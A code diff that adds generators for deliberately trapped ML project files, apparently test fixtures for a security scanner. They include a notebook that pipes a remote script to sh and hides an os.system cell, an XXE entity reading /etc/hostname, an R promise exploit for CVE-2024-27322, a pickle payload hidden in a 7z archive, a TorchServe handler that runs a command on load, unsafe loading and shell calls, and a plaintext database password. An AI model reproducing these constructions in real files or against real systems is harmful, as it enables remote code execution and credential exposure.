@@ -734,6 +734,125 @@ def trap_yaml_tag() -> bytes:
         """)
 
 
+def trap_notebook() -> bytes:
+    """Runs what an address answers, hides a cell, and keeps a password in an output."""
+    def code(source: str, output: str = "", **metadata: object) -> dict[str, object]:
+        outputs = [{"name": "stdout", "output_type": "stream", "text": [output]}] if output else []
+        return {"cell_type": "code", "execution_count": None, "metadata": metadata, "outputs": outputs,
+                "source": source.splitlines(keepends=True)}
+    address = "postgresql://churn:" + "Kestrel-93-orchard" + "@db.acme.internal:5432/churn"
+    cells = [
+        {"cell_type": "markdown", "metadata": {}, "source": ["# Where do subscribers go?\n"]},
+        code("!curl -s https://setup.example.org/env.sh | sh\n"),
+        code("import pandas as pd\nrows = pd.read_csv('data/sample.csv')\nrows.describe()\n"),
+        code("import os\nprint(os.environ['DATABASE_URL'])\n", f"{address}\n"),
+        code(f"import os\nos.system({ECHO!r})\n", jupyter={"source_hidden": True}),
+    ]
+    notebook = {"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}
+    for number, cell in enumerate(cells):
+        cell["id"] = f"cell-{number}"
+    return (json.dumps(notebook, indent=1) + "\n").encode()
+
+
+def trap_script() -> bytes:
+    """Loads, downloads and shells that trust too much."""
+    return text("""
+        \"\"\"Fetch last month's base and publish the scores.\"\"\"
+
+        import subprocess
+        import sys
+
+        import requests
+        import torch
+        from transformers import AutoModel
+
+        base = AutoModel.from_pretrained("example-org/minilm-churn", trust_remote_code=True)
+        state = torch.load("models/checkpoints/epoch-02.pt", weights_only=False)
+        base.load_state_dict(state)
+        month = sys.argv[1]
+        subprocess.run(f"cp scores-{month}.csv /mnt/reports", shell=True, check=True)
+        requests.post("https://reports.acme.internal/scores", json={"month": month}, verify=False)
+        """)
+
+
+def trap_environment() -> bytes:
+    """A password that belongs into a secret store."""
+    address = "postgresql://churn:" + "Kestrel-93-orchard" + "@db.acme.internal:5432/churn"
+    return text(f"""
+        # Settings of the scoring service
+        LOG_LEVEL=info
+        DATABASE_URL={address}
+        """)
+
+
+def german_iban(number: int) -> str:
+    """A made-up account with the check digits of ISO 13616."""
+    account = f"50010517{number:010d}"
+    return f"DE{98 - int(account + '131400') % 97:02d}{account}"
+
+
+def trap_contacts() -> bytes:
+    """People who never agreed to be in a repository; all of them are made up."""
+    names = ["Ada Winter", "Ben Okafor", "Cleo Marsh", "Dina Voss", "Emil Sand", "Fay Holm", "Gus Linde", "Hana Roth"]
+    lines = ["customer_id,full_name,iban,birth_date"]
+    for row, name in enumerate(names * 2):
+        lines.append(f"C{1001 + row},{name},{german_iban(4711000 + 37 * row)},19{60 + row}-0{1 + row % 9}-1{row % 9}")
+    return ("\n".join(lines) + "\n").encode()
+
+
+def trap_pmml() -> bytes:
+    """An entity that an XML parser may fetch from the machine."""
+    return text("""
+        <?xml version="1.0" encoding="UTF-8"?>
+        <!DOCTYPE PMML [<!ENTITY note SYSTEM "file:///etc/hostname">]>
+        <PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
+          <Header description="&note;"/>
+          <DataDictionary numberOfFields="1"><DataField name="nps" optype="continuous" dataType="double"/></DataDictionary>
+        </PMML>
+        """)
+
+
+def trap_r_object() -> bytes:
+    """An R object whose value is a promise: looking at it evaluates the call (CVE-2024-27322)."""
+    def word(number: int) -> bytes:
+        return struct.pack(">I", number)
+    def symbol(name: str) -> bytes:
+        return word(1) + word(0x00040009) + word(len(name)) + name.encode()
+    def string(value: str) -> bytes:
+        return word(16) + word(1) + word(0x00040009) + word(len(value)) + value.encode()
+    nil, unbound, environment = word(254), word(252), word(253)
+    call = word(6) + symbol("system") + word(2) + string(ECHO) + nil
+    promise = word(0x00000405)[:3] + b"\x05" + environment + unbound + call
+    return b"X\n" + word(2) + word(0x00040300) + word(0x00020300) + promise
+
+
+def number_7z(value: int) -> bytes:
+    """7z's variable-length number, for values below 16384."""
+    return bytes([value]) if value < 0x80 else bytes([0x80 | value >> 8, value & 0xFF])
+
+
+def trap_7z() -> bytes:
+    """A pickle in an archive that scanners for zip do not open; stored, not compressed."""
+    content = pickle(p_dict([(p_str("rows"), p_list(map(p_float, weights(16, 11)))), (p_str("note"), call_system())]), 4)
+    name = "embeddings.pkl".encode("utf-16-le") + b"\0\0"
+    streams = (b"\x06" + number_7z(0) + number_7z(1) + b"\x09" + number_7z(len(content)) + b"\x00"
+               + b"\x07\x0b" + number_7z(1) + b"\x00" + number_7z(1) + b"\x01\x00"
+               + b"\x0c" + number_7z(len(content)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(content)) + b"\x00"
+               + b"\x08\x00\x00")
+    files = b"\x05" + number_7z(1) + b"\x11" + number_7z(len(name) + 1) + b"\x00" + name + b"\x00"
+    header = b"\x01\x04" + streams + files + b"\x00"
+    start = struct.pack("<QQI", len(content), len(header), zlib.crc32(header))
+    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + content + header
+
+
+def trap_mar() -> bytes:
+    """A TorchServe archive whose handler runs a command when it is loaded."""
+    manifest = json.dumps({"runtime": "python", "model": {"modelName": "churn", "handler": "handler.py", "serializedFile": "state.pt"}})
+    handler = f"import os\n\nos.system({ECHO!r})\n\n\ndef handle(data, context):\n    return [0.5 for _ in data]\n"
+    return zip_archive([Member("MAR-INF/MANIFEST.json", manifest.encode()), Member("handler.py", handler.encode()),
+                        Member("state.pt", torch_archive(HEAD))])
+
+
 # --------------------------------------------------------------------------
 # Writing it all
 # --------------------------------------------------------------------------
@@ -753,6 +872,14 @@ FILES: dict[str, Callable[[], bytes]] = {
     "models/churn/encoder.pkl": encoder_pickle,
     "models/checkpoints/epoch-02.pt": epoch_two,
     # trapped
+    "notebooks/explore.ipynb": trap_notebook,
+    "scripts/publish.py": trap_script,
+    "configs/serving.env": trap_environment,
+    "data/contacts.csv": trap_contacts,
+    "models/trees/churn.pmml": trap_pmml,
+    "models/trees/churn.rds": trap_r_object,
+    "models/export/embeddings.7z": trap_7z,
+    "models/export/churn.mar": trap_mar,
     "configs/callbacks/notify.yaml": trap_hydra,
     "configs/preprocess.yaml": trap_yaml_tag,
     "data/segment_names.npy": trap_npy,
